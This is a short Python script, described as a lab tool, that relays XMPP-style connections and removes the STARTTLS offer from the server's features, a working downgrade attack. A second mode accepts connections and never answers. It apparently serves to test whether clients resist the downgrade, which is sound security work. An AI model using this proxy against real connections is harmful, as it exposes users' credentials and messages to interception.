#!/usr/bin/env python3
"""A STARTTLS-stripping attacker for the lab, and a listener that never speaks.

    strip-proxy.py LISTEN_ADDRESS LISTEN_PORT UPSTREAM_ADDRESS UPSTREAM_PORT
        relays to the upstream server, removing <starttls .../> from the server's first stream features
        (the downgrade of RFC 7590 §3.1); everything after them passes untouched, TLS included.
    strip-proxy.py --mute LISTEN_ADDRESS LISTEN_PORT
        accepts connections and never sends a byte.
"""
import asyncio
import re
import sys

STARTTLS = re.compile(rb"<starttls[^>]*?(/>|>.*?</starttls>)", re.S)
END_OF_FEATURES = re.compile(rb"</(\w+:)?features>")


async def pipe(reader, writer, first_features=False):
    pending = b""
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            if first_features:
                pending += data
                if not END_OF_FEATURES.search(pending) and len(pending) < 65536:
                    continue
                data, pending, first_features = STARTTLS.sub(b"", pending, count=1), b"", False
            writer.write(data)
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def relay(client_reader, client_writer, upstream):
    try:
        server_reader, server_writer = await asyncio.open_connection(*upstream)
    except OSError:
        client_writer.close()
        return
    await asyncio.gather(
        pipe(client_reader, server_writer), pipe(server_reader, client_writer, first_features=True))


async def mute(reader, writer):
    await reader.read()  # until the client gives up
    writer.close()


async def main(arguments):
    if arguments[0] == "--mute":
        server = await asyncio.start_server(mute, arguments[1], int(arguments[2]))
    else:
        upstream = (arguments[2], int(arguments[3]))
        server = await asyncio.start_server(
            lambda r, w: relay(r, w, upstream), arguments[0], int(arguments[1]))
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    try:
        asyncio.run(main(sys.argv[1:]))
    except KeyboardInterrupt:
        pass
